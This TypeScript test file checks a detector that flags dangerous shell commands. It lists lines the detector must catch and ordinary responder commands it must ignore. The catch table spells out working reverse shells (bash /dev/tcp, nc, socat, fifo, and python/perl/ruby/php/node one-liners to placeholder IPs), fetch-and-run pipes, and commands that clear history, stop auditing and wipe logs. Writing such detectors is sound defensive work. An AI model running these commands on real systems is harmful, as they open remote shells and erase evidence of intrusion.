/** The known-dangerous command table: every pattern with the lines it must catch, and ordinary lines it must leave alone. */
import { readFile } from 'node:fs/promises';
import { describe, expect, it } from 'vitest';
import { DANGEROUS, findDangerous } from '../../../src/monitor/anomaly/dangerous.js';

/** Each pattern id → lines that must match it. */
const CATCHES: Record<string, string[]> = {
  'history-unset': ['unset HISTFILE', 'unset -v HISTFILE', 'ls; unset HISTFILE', 'sudo bash -c "unset HISTFILE; ls"'],
  'history-disable': ['HISTSIZE=0', 'export HISTSIZE=0', 'export HISTFILESIZE=0', 'HISTFILE=/dev/null bash', 'export HISTFILE=/dev/null', 'HISTFILE= ', "declare -x HISTSIZE='0'", 'ls && SAVEHIST=0'],
  'history-off': ['set +o history', 'shopt -u -o history'],
  'history-clear': ['history -c', 'history -cw', 'history -w /dev/null', 'sudo bash -c "history -c"'],
  'history-file-wipe': ['cat /dev/null > ~/.bash_history', 'ln -sf /dev/null ~/.bash_history', 'shred -u /root/.bash_history', 'rm -f ~/.zsh_history', ': > /home/alice/.bash_history'],
  'audit-rules-delete': ['auditctl -D', 'sudo auditctl -e 0', 'auditctl -e0'],
  'audit-stop': ['systemctl stop auditd', 'sudo systemctl mask auditd.service', 'systemctl disable --now rsyslog', 'service auditd stop', 'pkill rsyslog', 'killall auditd', 'systemctl kill systemd-journald'],
  'log-wipe': ['shred -u /var/log/auth.log', 'rm -rf /var/log/audit/', 'rm -rf /var/log/*', 'sudo truncate -s 0 /var/log/wtmp', '> /var/log/auth.log'],
  'fetch-and-run': [
    'curl -s http://x/a.sh | sudo bash',
    'wget -O- http://x | sh -s',
    'curl -fsSL https://get.example.com | sh',
    'bash <(curl -s http://x)',
    'bash -c "$(curl -fsSL http://x)"',
    'curl -o /tmp/x.sh http://x && bash /tmp/x.sh',
    'wget -qO- http://x/p.py | python3',
  ],
  'reverse-shell-dev-tcp': ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'sh -i >& /dev/udp/10.0.0.1/4444 0>&1', '0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196'],
  'reverse-shell-nc': ['nc -e /bin/sh 1.2.3.4 4444', 'ncat 1.2.3.4 4444 -e /bin/bash', 'nc -nve /bin/sh 1.2.3.4 4444', 'ncat --sh-exec "bash" 1.2.3.4 4444', 'ncat -c bash 1.2.3.4 4444'],
  'reverse-shell-socat': ['socat tcp:1.2.3.4:4444 exec:/bin/sh', 'socat TCP:1.2.3.4:4444 EXEC:"bash -li",pty,stderr', 'socat tcp-connect:1.2.3.4:4444 system:sh'],
  'reverse-shell-fifo': ['rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f', 'mknod /tmp/p p && telnet 1.2.3.4 80 0</tmp/p | /bin/bash 1>/tmp/p'],
  'reverse-shell-pipe': ['telnet 1.2.3.4 80 | /bin/sh | telnet 1.2.3.4 81', 'nc 1.2.3.4 4444 | bash'],
  'reverse-shell-script': [
    `python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
    `perl -e 'use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(1234,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`,
    `ruby -rsocket -e 'f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`,
    `php -r '$sock=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");'`,
    `node -e 'require("child_process").spawn("/bin/sh",[]); new require("net").Socket().connect(1234,"10.0.0.1")'`,
  ],
};

/** What responders type all day, including lines that only mention the dangerous things. */
const ORDINARY = [
  'ls -la /var/log', 'cat /var/log/syslog', 'tail -n 50 /var/log/auth.log', 'grep -r HISTFILE /etc', 'echo "unset HISTFILE"', 'echo HISTSIZE=0', "printf 'HISTSIZE=0\\n'",
  'history', 'history 20', 'cat ~/.bash_history', 'grep ssh ~/.bash_history', 'systemctl status auditd', 'systemctl restart nginx', 'journalctl -u auditd --since "1 hour ago"', 'auditctl -l', 'auditctl -s',
  'curl -s http://localhost:8080/healthz', 'curl -s http://x | jq .', 'curl -s http://x | python3 -m json.tool', "curl -s http://x | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
  'wget http://x/file.tar.gz', 'curl -o /tmp/report.json http://x/report', 'timeout 1 bash -c "</dev/tcp/db/5432"', 'echo > /dev/tcp/db/5432', "python3 -c 'import socket; print(socket.gethostname())'",
  'nc -zv db 5432', 'nc -l 8080', 'ps aux | grep nc', 'rm /var/log/old.gz', 'rm -rf /tmp/build', 'df -h', 'socat - TCP:db:5432', 'bash -x ./deploy.sh', 'mkfifo /tmp/p', 'openssl s_client -connect db:443 </dev/null',
  'sudo -u postgres psql -c "select 1"', 'find / -name "*.bash_history" -newer /tmp/x', 'kill -HUP $(cat /run/nginx.pid)', 'pkill -f stuck-job', 'set -o vi', 'set +x', 'export HISTTIMEFORMAT="%F %T "',
];

describe('findDangerous', () => {
  it('has examples for every pattern in the table, and no example for a pattern that does not exist', () => {
    expect(Object.keys(CATCHES).sort()).toEqual(DANGEROUS.map((r) => r.id).sort());
  });

  for (const [id, lines] of Object.entries(CATCHES)) {
    it(`${id}: catches ${lines.length} shapes`, () => {
      for (const line of lines) expect(findDangerous(line).map((m) => m.id), line).toContain(id);
    });
  }

  it('leaves ordinary responder lines alone (false positives)', () => {
    const fired = ORDINARY.map((line) => ({ line, ids: findDangerous(line).map((m) => m.id) })).filter((x) => x.ids.length > 0);
    expect(fired).toEqual([]);
  });

  it('reports the id, category, description and the offending command, printable', () => {
    const [m] = findDangerous('ls /tmp; sudo systemctl stop auditd; echo done');
    expect(m).toEqual({ id: 'audit-stop', category: 'audit', description: expect.stringContaining('auditd') as string, match: 'sudo systemctl stop auditd' });
    const esc = findDangerous('unset HISTFILE # \u001b[31mred');
    expect(esc[0]?.match).not.toMatch(/\u001b/);
  });

  it('never throws on garbage, and is quick on long lines', () => {
    for (const line of ['', '(((', '"unterminated', '\u0000', 'a'.repeat(20_000), '$(($(($(('.repeat(100)]) expect(() => findDangerous(line)).not.toThrow();
    const t = performance.now();
    for (let i = 0; i < 1_000; i++) findDangerous('ps aux --sort=-%cpu | head -n 5 && grep -c processor /proc/cpuinfo');
    expect(performance.now() - t).toBeLessThan(2_000);
  });

  it('docs/anomalies.md lists every pattern id', async () => {
    const doc = await readFile(new URL('../../../docs/anomalies.md', import.meta.url), 'utf8');
    for (const r of DANGEROUS) expect(doc, r.id).toContain(`\`${r.id}\``);
  });
});
